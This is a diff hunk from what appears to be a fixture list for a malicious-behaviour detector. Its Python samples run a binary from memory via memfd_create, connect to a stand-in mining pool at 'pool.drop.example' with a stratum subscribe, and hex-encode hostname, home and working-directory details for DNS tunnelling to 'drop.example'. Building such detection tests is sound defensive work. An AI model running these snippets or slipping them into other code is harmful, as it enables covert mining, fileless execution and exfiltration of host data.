@@ -64,7 +64,7 @@ for name in os.listdir(where):
   { id: 'memory', at: 'import', finds: ['did-run-from-memory'], target: /memory/, code: `fd = os.memfd_create('x')
 os.write(fd, open('/bin/true', 'rb').read())
 «subprocess.call(['/proc/self/fd/%d' % fd], pass_fds=[fd])»` },
-  { id: 'mine', at: 'call', finds: ['did-mine'], target: /pool\.drop/, code: `s = socket.create_connection(('pool.drop.example', 3333), 5)
+  { id: 'mine', at: 'call', finds: ['did-mine'], target: /pool\.drop/, code: `s = «socket.create_connection»(('pool.drop.example', 3333), 5)
 «s.sendall(b'{"id":1,"method":"mining.subscribe","params":["cpu/1.0"]}\\n')»
 s.close()` },
   { id: 'dns-tunnel', at: 'import', finds: ['did-tunnel-dns', 'did-send-secrets', 'did-profile-host'], target: /drop\.example/, code: `text = (socket.gethostname() + ':' + os.path.basename(home) + ':' + os.getcwd() + ':' + sys.version[:20]).encode().hex()
